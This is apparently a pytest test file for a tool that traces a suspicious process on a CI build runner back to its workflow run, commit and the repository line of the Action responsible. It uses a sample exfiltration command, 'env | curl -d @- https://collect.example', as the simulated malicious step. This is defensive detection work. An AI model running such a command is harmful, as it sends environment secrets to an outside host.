"""A process on a build runner: which run it was part of, and which line of the repository brought it in."""

import pytest
from builds import AT, CI, MINUTE, OWNERS, SECOND, Change, Runner, broken, builds, told

from lemnis.app.origins import workflow_run
from lemnis.contracts.provenance import Strength
from lemnis.lessons.prevent.base import Action

FLOW = """\
on: [push]
jobs:
  lint:
    runs-on: self-hosted
    steps:
      - uses: quick-ci/lint@v1
  test:
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v4
      - name: Changed
        uses: quick-ci/changed-files@v45
      - uses: ./.github/actions/setup
"""
SETUP = "runs:\n  using: composite\n  steps:\n    - uses: pack-tools/setup/cli@release/2\n"
SENDS = "env | curl -d @- https://collect.example"
REPOSITORY = Change("begin", {**OWNERS, CI: FLOW, ".github/actions/setup/action.yml": SETUP})


@pytest.fixture
def world(tmp_path):
    return builds(tmp_path, REPOSITORY)


def ran(
    world,
    action="quick-ci/changed-files",
    ref="v45",
    *,
    commit="begin",
    tells=("workflow_run", "workflow_job"),
    **more,
):
    """A job runs in which an action's program sends something; of the forge's events only some are there."""
    runner = Runner("build-7")
    commit = world.commits["shop"].get(commit, commit)
    job = runner.begin(AT - 20 * SECOND, "shop", run=900, commit=commit, **more)
    node = job.action(AT - SECOND, action, ref) if action else job.step(AT - SECOND)
    job.ran(AT, node, "/usr/bin/bash", "bash", "-c", SENDS)
    runner.end(job, AT + MINUTE)
    runner.told = [one for one in runner.told if one[1]["event"] in tells]
    return runner


def chain(world, runner):
    logs = [one for one in runner.logs(world.folder) if runner.told or one[0] != "github_webhook"]
    world.logs(logs)
    [found] = workflow_run.chains(world.alerted(SENDS))
    return found


def test_an_action_is_traced_to_the_line_that_uses_it(world):
    found = chain(world, ran(world))
    commit = world.commits["shop"]["begin"]
    assert told(found) == [
        ("runs_in", "https://git.example/shop/actions/runs/900", "recorded"),
        ("triggered_by", commit, "recorded"),
        ("has_line", f"shop:{CI}:12", "observed"),
        ("introduced_by", commit, "recorded"),
        ("owned_by", "@shop/all", "label"),
    ]
    assert found.holds
    assert found.facts.action == Action("quick-ci/changed-files", "v45")
    assert found.strength is Strength.RECORDED
    [uses] = [edge for edge in found.beside if edge.relation == "uses"]
    assert uses.target.value == "pkg:githubactions/quick-ci/changed-files@v45"
    assert len(found.events) == 1  # the shell: what the action did besides is as ever


def test_the_log_of_a_job_tells_which_commit_a_tag_led_to(world):
    path = world.folder / "1_test.txt"
    bad = "bad0" * 10
    lines = [
        f"2025-11-24T15:59:{second}.0000000Z Download action repository '{name}@{ref}' (SHA:{commit})\n"
        for second, name, ref, commit in (
            (41, "actions/checkout", "v4", "1" * 40), (42, "Quick-CI/changed-files", "v45", bad),
            (43, "quick-ci/changed-files", "v44", "2" * 40),
        )
    ]  # fmt: skip
    path.write_text("".join(lines))
    world.read("github_job_log", path)
    found = chain(world, ran(world))
    assert found.facts.action == Action("quick-ci/changed-files", "v45", bad)
    assert found.hops[2].edge.evidence["fetched"][0].startswith(bad)


def test_an_own_action_in_between_is_followed_to_its_file(world):
    found = chain(world, ran(world, "pack-tools/setup", "release/2/cli"))
    assert ("has_line", "shop:.github/actions/setup/action.yml:4", "label") in told(found)
    assert found.facts.action == Action("pack-tools/setup/cli", "release/2")


def test_without_an_event_of_a_forge_nobody_knows_the_run(world):
    relation, why = broken(chain(world, ran(world, tells=())))
    assert relation == "runs_in"
    assert "no event of a forge tells of a job of shop on build-7" in why


def test_a_run_of_the_repository_at_the_time_is_a_likeness_of_names(world):
    found = chain(world, ran(world, tells=("workflow_run",)))
    assert told(found)[0] == ("runs_in", "https://git.example/shop/actions/runs/900", "name_match")
    assert found.strength is Strength.NAME_MATCH


def test_several_runs_that_may_be_meant_are_no_run(world):
    runner = ran(world, tells=("workflow_run",))
    other = ran(world, tells=("workflow_run",))
    for _, record in other.told:
        record["payload"]["workflow_run"] |= {
            "id": 901,
            "html_url": "https://git.example/shop/actions/runs/901",
        }
        record["body_sha256"] = record["body_sha256"][::-1]
    runner.told += other.told
    relation, why = broken(chain(world, runner))
    assert relation == "runs_in"
    assert why.startswith("several runs may be meant")


def test_a_job_on_another_runner_or_at_another_time_is_another_job(world):
    runner = ran(world)
    for _, record in runner.told:
        if record["event"] == "workflow_job":
            record["payload"]["workflow_job"]["runner_name"] = "build-8"
    found = chain(world, runner)
    assert told(found)[0][2] == "name_match"
    assert found.hops[0].edge.method == "runner_time"


def test_a_commit_that_is_not_here_breaks_the_chain(world):
    relation, why = broken(chain(world, ran(world, commit="9" * 40)))
    assert relation == "has_line"
    assert "no commit" in why


def test_an_action_that_the_workflow_does_not_name_is_no_line(world):
    relation, why = broken(chain(world, ran(world, "far-away/inner", "v1")))
    assert (relation, why.partition(":")[0]) == ("has_line", "no workflow uses far-away/inner@v1")


def test_another_ref_than_the_commits_is_no_line(world):
    relation, _ = broken(chain(world, ran(world, ref="v4")))
    assert relation == "has_line"


def test_a_step_of_the_workflows_own_is_told_as_such(world):
    relation, why = broken(chain(world, ran(world, "")))
    assert relation == "has_line"
    assert "a step of the workflow's own" in why


def test_an_action_that_is_used_twice_is_told_with_both_lines(tmp_path):
    twice = FLOW + "      - uses: quick-ci/changed-files@v45\n"
    world = builds(tmp_path, Change("begin", {**OWNERS, CI: twice}))
    found = chain(world, ran(world))
    assert ("has_line", f"shop:{CI}:12", "label") in told(found)
    assert found.hops[2].edge.evidence["others"] == [f"{CI}:14"]


def test_a_job_of_the_same_name_decides_between_lines_of_several_jobs(tmp_path):
    other = FLOW.replace("quick-ci/lint@v1", "quick-ci/changed-files@v45")
    world = builds(tmp_path, Change("begin", {**OWNERS, CI: other}))
    assert ("has_line", f"shop:{CI}:12", "observed") in told(chain(world, ran(world)))


def test_a_run_for_a_stranger_goes_by_another_workflow(world):
    runner = ran(world)
    for _, record in runner.told:
        if record["event"] == "workflow_run":
            record["payload"]["workflow_run"]["event"] = "pull_request_target"
    found = chain(world, runner)
    assert told(found)[1][2] == "label"


def test_what_another_step_of_the_run_did_is_not_the_actions_doing(world):
    runner = ran(world)
    worker = runner.run(AT, 900, f"{runner.home}/bin/Runner.Worker", ["Runner.Worker"], runner.home)
    place = f"{runner.home}/_work/shop/shop"
    step = runner.run(
        AT + SECOND, worker, "/usr/bin/bash", ["bash", "-e", f"{runner.home}/_work/_temp/2.sh"], place
    )
    runner.run(AT + 2 * SECOND, step, "/usr/bin/bash", ["bash", "-c", SENDS], place)
    world.logs(runner.logs(world.folder))
    action, own = workflow_run.chains(world.alerted(SENDS))
    assert action.holds
    assert broken(own)[0] == "has_line"
    assert not set(action.alerts) & set(own.alerts)


def test_what_runs_on_no_runner_has_no_chain(world):
    runner = Runner("srv-1")
    runner.run(AT, 1, "/usr/bin/bash", ["bash", "-c", SENDS], "/srv/shop")
    world.logs([one for one in runner.logs(world.folder) if one[0] == "linux_audit"])
    assert workflow_run.chains(world.alerted(SENDS)) == []
